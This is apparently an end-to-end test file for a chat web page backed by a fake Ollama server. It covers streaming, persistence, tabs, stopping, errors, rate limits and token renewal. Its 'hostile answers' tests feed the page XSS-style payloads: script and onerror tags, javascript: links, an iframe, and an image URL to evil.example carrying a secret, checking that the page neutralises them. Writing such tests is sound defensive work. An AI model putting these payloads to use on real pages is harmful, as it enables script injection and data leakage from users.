import { cut, error, say, slow, stall, think } from '@ziggie/llm-testing';
import { startFakeOllama } from '@ziggie/llm-testing/node';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  ask,
  modelIsChosen,
  openStage,
  parts,
  type Stage,
  type StageOptions,
  withChromium,
} from './harness.ts';

withChromium();

let stage: Stage | undefined;
let over: 'http' | 'websocket' = 'http';
async function open(options?: StageOptions): Promise<Stage> {
  stage = await openStage({ transport: over, ...options });
  return stage;
}
afterEach(async () => {
  const complaints = stage?.complaints ?? [];
  await stage?.close();
  stage = undefined;
  // Whatever happened: the page breaks neither its own policy nor down.
  expect(complaints.filter((text) => !text.startsWith('console: Failed to load resource'))).toEqual([]);
});

const words = (count: number) => Array.from({ length: count }, (_, at) => `word${at}`).join(' ');

// The same for both ways that answers can come.
describe.each(['http', 'websocket'] as const)('over %s', (transport) => {
  beforeEach(() => {
    over = transport;
  });
  afterEach(() => {
    over = 'http';
  });

  describe('a conversation', () => {
    it('is sent, streams into the page word by word and ends with its numbers', async () => {
      const { page, fake, complaints } = await open();
      fake.script([slow(60), say(words(90))]);
      await ask(page, 'How are you?');
      const answer = parts.answers(page).last();
      const lengths: number[] = [];
      await expect
        .poll(
          async () => {
            lengths.push((await answer.textContent({ timeout: 5000 }))?.match(/word\d+/g)?.length ?? 0);
            return lengths.at(-1);
          },
          { interval: 50, timeout: 15_000 },
        )
        .toBe(90);
      expect(new Set(lengths).size).toBeGreaterThan(4);
      expect(lengths).toEqual([...lengths].sort((a, b) => a - b));
      await expect.poll(() => page.getByText(/tok\/s, first token/).isVisible()).toBe(true);
      await expect.poll(() => parts.questions(page).count()).toBe(1);
      expect(complaints).toEqual([]);
      expect(stage?.sockets.length).toBe(over === 'websocket' ? 1 : 0);
    });

    it('shows the thinking while it lasts and folds it away', async () => {
      const { page, fake } = await open();
      fake.script([think('Let me see. '), think(words(20)), say('Forty-two.')]);
      await ask(page, 'What is it?');
      await expect.poll(() => parts.answers(page).last().textContent()).toContain('Forty-two.');
      await expect.poll(() => page.getByRole('button', { name: /Thought/ }).count()).toBe(1);
      expect(await parts.answers(page).last().getByText('word19').isVisible()).toBe(false);
    });

    it('is still there after a reload', async () => {
      const { page, fake } = await open();
      fake.script(say('The answer that stays.'));
      await ask(page, 'Remember this question');
      await expect.poll(() => page.getByText(/first token/).count()).toBe(1);
      await page.reload();
      await expect
        .poll(() => parts.answers(page).last().textContent(), { timeout: 10_000 })
        .toContain('The answer that stays.');
      expect(await parts.questions(page).last().textContent()).toContain('Remember this question');
    });

    it('can be deleted from the list, and stays gone', async () => {
      const { page, fake } = await open();
      fake.script(say('Words to forget.'));
      await ask(page, 'Say something');
      await expect.poll(() => page.locator('.zg-stats').last().textContent()).toContain('first token');
      await page.getByRole('button', { name: 'More for Say something' }).click();
      await page.getByRole('menuitem', { name: 'Delete' }).click();
      await expect.poll(() => parts.questions(page).count()).toBe(0);
      await page.reload();
      await page.getByRole('heading', { name: 'What should we work on?' }).waitFor();
      expect(await page.evaluate(() => JSON.stringify({ ...localStorage }))).not.toContain('Words to forget');
    });

    // Tabs meet in the storage of the browser, whatever their answers come over.
    it('is in the list of a second tab, and both show what either does', async () => {
      const { page, context, fake, url } = await open();
      fake.script([say('First answer.')]);
      await ask(page, 'From the first tab');
      await expect.poll(() => parts.answers(page).last().textContent()).toContain('First answer.');
      const other = await context.newPage();
      await other.goto(url);
      const row = (tab: typeof page, name: string) => tab.getByRole('button', { name, exact: true });
      await row(other, 'From the first tab').click();
      await expect.poll(() => parts.answers(other).last().textContent()).toContain('First answer.');
      fake.script([say('Second answer.')]);
      await ask(other, 'From the second tab');
      await expect.poll(() => parts.answers(page).last().textContent()).toContain('Second answer.');
      await expect.poll(() => parts.answers(page).count()).toBe(2);
      await page.getByRole('button', { name: 'More for From the first tab' }).click();
      await page.getByRole('menuitem', { name: 'Rename' }).click();
      await page.getByRole('textbox', { name: 'Title of the conversation' }).fill('Both');
      await page.keyboard.press('Enter');
      await row(other, 'Both').waitFor();
      await other.getByRole('button', { name: 'New chat' }).click();
      expect(new URL(other.url()).hash).not.toBe(new URL(page.url()).hash);
      fake.script([say('Third answer.')]);
      await ask(other, 'Another conversation');
      await row(page, 'Another conversation').waitFor();
      expect(await parts.answers(page).count()).toBe(2);
      await page.getByRole('button', { name: 'More for Both' }).click();
      await page.getByRole('menuitem', { name: 'Delete' }).click();
      await row(other, 'Both').waitFor({ state: 'detached' });
    });

    it('keeps what was written when the page is reloaded in the middle', async () => {
      const { page, fake } = await open();
      fake.script([say('Half an answer '), stall(undefined)]);
      await ask(page, 'Go');
      await expect.poll(() => parts.answers(page).last().textContent()).toContain('Half an answer');
      await page.reload();
      // The page says in going that it comes back for nothing, long before the 30 s for which a lost reader is waited for.
      await fake.waitFor((report) => report.openGenerations === 0, 2000);
      await expect
        .poll(() => parts.answers(page).last().textContent(), { timeout: 10_000 })
        .toContain('Half an answer');
    });
  });

  describe('stop', () => {
    it('frees the slot of the model while it writes and keeps what was written', async () => {
      const { page, fake } = await open();
      fake.script([slow(30), say(words(500))]);
      await ask(page, 'Write a lot');
      await expect.poll(() => parts.answers(page).last().textContent()).toContain('word5');
      expect(fake.report().openGenerations).toBe(1);
      await parts.stop(page).first().click();
      await fake.waitFor((report) => report.openGenerations === 0, 2000);
      await expect.poll(() => page.getByText(/Stopped after/).count()).toBe(1);
      expect(await parts.answers(page).last().textContent()).toContain('word5');
      expect(fake.report().disconnects).toHaveLength(1);
    });

    it('frees the slot before the first token', async () => {
      const { page, fake } = await open();
      fake.script(stall(undefined));
      await ask(page, 'Hang');
      await fake.waitFor((report) => report.openGenerations === 1);
      await page
        .getByRole('button', { name: /^(Stop|Cancel)$/ })
        .first()
        .click();
      await fake.waitFor((report) => report.openGenerations === 0, 2000);
      await expect.poll(() => parts.send(page).count()).toBe(1);
    });
  });

  describe('failures', () => {
    it('the model server dies mid-answer: a card, the partial text, and a retry that works', async () => {
      const first = await open();
      const { page, standIn, fake } = first;
      fake.script([say('The beginning '), stall(undefined)]);
      await ask(page, 'Tell me');
      await expect.poll(() => parts.answers(page).last().textContent()).toContain('The beginning');
      const { port } = standIn;
      await standIn.close();
      await expect.poll(() => parts.alert(page).count(), { timeout: 10_000 }).toBe(1);
      expect(await parts.answers(page).last().textContent()).toContain('The beginning');

      const again = await startFakeOllama({ port, tokensPerSecond: Number.POSITIVE_INFINITY });
      try {
        again.fake.script(say('The whole answer.'));
        await parts.alert(page).getByRole('button', { name: 'Try again' }).click();
        await expect
          .poll(() => parts.answers(page).last().textContent(), { timeout: 15_000 })
          .toContain('The whole answer.');
        expect(await parts.alert(page).count()).toBe(0);
      } finally {
        await again.close();
      }
    });

    it('an answer that just ends is never taken for a whole one', async () => {
      const { page, fake } = await open();
      fake.script([say('Looks fine'), cut('end')]);
      await ask(page, 'Go');
      await expect.poll(() => parts.alert(page).count(), { timeout: 10_000 }).toBe(1);
      expect(await parts.answers(page).last().textContent()).toContain('Looks fine');
    });

    it('429: counts down and keeps the words', async () => {
      // The page's list of models is a request too, and over a WebSocket its ticket.
      const requestsPerMinute = transport === 'http' ? 2 : 4;
      const { page, fake } = await open({ limits: { requestsPerMinute } });
      fake.script(say('ok'), { times: Number.POSITIVE_INFINITY });
      for (let turn = 0; turn < 3 && (await parts.alert(page).count()) === 0; turn++) {
        await ask(page, `Question ${turn}`);
        await expect
          .poll(async () => (await parts.alert(page).count()) + (await parts.send(page).count()), {
            timeout: 15_000,
          })
          .toBeGreaterThan(0);
      }
      await expect
        .poll(() => parts.alert(page).textContent(), { timeout: 60_000 })
        .toContain('Too many requests');
      const secondsLeft = async () =>
        Number(/try again in (\d+)/.exec((await parts.alert(page).textContent()) ?? '')?.[1]);
      const first = await secondsLeft();
      expect(first).toBeGreaterThan(1);
      expect(await parts.alert(page).getByRole('button', { name: 'Try again' }).isDisabled()).toBe(true);
      await expect.poll(secondsLeft).toBeLessThan(first);
      // The refused question stands in the transcript, and the answers before it too.
      expect(await parts.questions(page).last().textContent()).toContain('Question');
      expect(await parts.answers(page).first().textContent()).toContain('ok');
    });

    it('503: says that the server is busy', async () => {
      const { page, fake } = await open();
      fake.script(
        error('server busy, please try again.  maximum pending requests exceeded', { status: 503 }),
        {
          times: Number.POSITIVE_INFINITY,
        },
      );
      await ask(page, 'Hello');
      await expect
        .poll(() => parts.alert(page).textContent(), { timeout: 30_000 })
        .toContain('The server is busy');
      await expect.poll(() => parts.alert(page).getByRole('button', { name: 'Try again' }).count()).toBe(1);
    });

    it('a model that is gone: says so and offers another', async () => {
      const { page, standIn } = await open();
      await modelIsChosen(page);
      const { port } = standIn;
      await standIn.close();
      const other = await startFakeOllama({ port, models: ['another'] });
      try {
        await ask(page, 'Hello');
        await expect
          .poll(() => parts.alert(page).textContent(), { timeout: 10_000 })
          .toContain('not on this server');
        await expect
          .poll(() => parts.alert(page).getByRole('button', { name: 'Pick another model' }).count())
          .toBe(1);
      } finally {
        await other.close();
      }
    });
  });
});

describe('a token', () => {
  it('a token that is no longer good is renewed once, unseen', async () => {
    let stale = false;
    const { page, fake } = await open({
      before: async (target) => {
        await target.route('**/demo/token', async (route) => {
          if (!stale) return route.continue();
          stale = false;
          return route.fulfill({ json: { token: 'no.longer.good' } });
        });
      },
    });
    const statuses: number[] = [];
    page.on('response', (response) => {
      if (response.url().endsWith('/api/llm/chat')) statuses.push(response.status());
    });
    await modelIsChosen(page);
    fake.script(say('Welcome back.'));
    stale = true;
    await ask(page, 'Hello');
    await expect
      .poll(() => parts.answers(page).last().textContent(), { timeout: 10_000 })
      .toContain('Welcome back.');
    expect(statuses).toEqual([401, 200]);
    expect(await parts.alert(page).count()).toBe(0);
  });

  it('401: says that the sign-in ended', async () => {
    let good = true;
    const { page } = await open({
      before: async (target) => {
        await target.route('**/demo/token', (route) =>
          good ? route.continue() : route.fulfill({ json: { token: 'bad' } }),
        );
        // Every call asks with what the token route gives now.
        await target.route('**/api/llm/chat', (route) =>
          good
            ? route.continue()
            : route.continue({ headers: { ...route.request().headers(), authorization: 'Bearer bad' } }),
        );
      },
    });
    await modelIsChosen(page);
    good = false;
    await ask(page, 'Hello');
    await expect
      .poll(() => parts.alert(page).textContent(), { timeout: 10_000 })
      .toContain('You are signed out');
  });
});

describe('a page without a model', () => {
  it('says why, and goes on by itself when its reader comes back to a server that has one', async () => {
    const { page, standIn } = await open({ standIn: { models: [] } });
    const hint = page.locator('.zg-hint');
    await expect.poll(() => hint.textContent()).toBe('There is no model on this server');
    const { port } = standIn;
    await standIn.close();
    // The kit keeps a list for a second, and a reader comes back more than once.
    const comeBack = async () => {
      const before = await hint.textContent();
      await page.evaluate(() => window.dispatchEvent(new Event('focus')));
      return before;
    };
    await expect.poll(comeBack, { interval: 500 }).toBe('The models could not be listed');
    const again = await startFakeOllama({ port, tokensPerSecond: Number.POSITIVE_INFINITY });
    try {
      await expect.poll(comeBack, { interval: 500 }).toContain('Enter sends');
      again.fake.script(say('Back again.'));
      await ask(page, 'Hello');
      await expect.poll(() => parts.answers(page).last().textContent()).toContain('Back again.');
    } finally {
      await again.close();
    }
  });
});

describe('hostile answers', () => {
  it('16 KiB of quote marks harm nothing else', async () => {
    const { page, fake, complaints } = await open({ standIn: { tokensPerSecond: Number.POSITIVE_INFINITY } });
    fake.script(say('An honest answer.'));
    await ask(page, 'First');
    await expect.poll(() => parts.answers(page).first().textContent()).toContain('An honest answer.');
    fake.script(say('> '.repeat(8192)));
    await ask(page, 'Second');
    await expect
      .poll(() => page.getByText(/first token|tok\/s|tokens/).count(), { timeout: 20_000 })
      .toBeGreaterThan(1);
    fake.script(say('Still here.'));
    await ask(page, 'Third');
    await expect
      .poll(() => parts.answers(page).last().textContent(), { timeout: 10_000 })
      .toContain('Still here.');
    expect(await parts.answers(page).first().textContent()).toContain('An honest answer.');
    expect(complaints).toEqual([]);
  });

  it('markup, scripts and images in an answer do nothing', async () => {
    const { page, fake, complaints } = await open({ standIn: { tokensPerSecond: Number.POSITIVE_INFINITY } });
    const elsewhere: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(stage?.url ?? '') && !request.url().startsWith('data:'))
        elsewhere.push(request.url());
    });
    fake.script(
      say(
        '<img src=x onerror="window.hurt=1"><script>window.hurt=1</script>\n\n' +
          '![pixel](https://evil.example/p.png?q=secret) [click](javascript:window.hurt=1) [data](data:text/html,x)\n\n' +
          '<iframe src="https://evil.example"></iframe>\n\n[ok](https://example.com/a) end of answer',
      ),
    );
    await ask(page, 'Attack me');
    await expect.poll(() => parts.answers(page).last().textContent()).toContain('end of answer');
    const links = await parts.answers(page).last().locator('a').all();
    for (const link of links) {
      expect(await link.getAttribute('href')).toMatch(/^https:\/\//);
      expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    }
    expect(await page.evaluate(() => (window as unknown as { hurt?: number }).hurt)).toBeUndefined();
    expect(elsewhere).toEqual([]);
    expect(complaints).toEqual([]);
  });
});

describe('the line under the composer says where answers come from', () => {
  const address = 'http://127.0.0.1:11434';
  it.each([
    [
      'the stand-in',
      'stand-in',
      'ok',
      'Answers come from a built-in stand-in. For a real model, install Ollama',
    ],
    ['a real Ollama', 'ollama', 'ok', `Answers come from Ollama at ${address}.`],
    [
      'an Ollama that does not answer',
      'ollama',
      'unreachable',
      `OLLAMA_HOST is ${address}, but no Ollama answers there.`,
    ],
    [
      'an Ollama without models',
      'ollama',
      'no-models',
      `Ollama at ${address} has no model yet. Pull one with`,
    ],
  ] as const)('%s', async (_name, kind, state, words) => {
    const { page } = await open({ source: { kind, state, address } });
    await expect.poll(() => page.locator('[data-demo-source]').textContent()).toContain(words);
  });
});
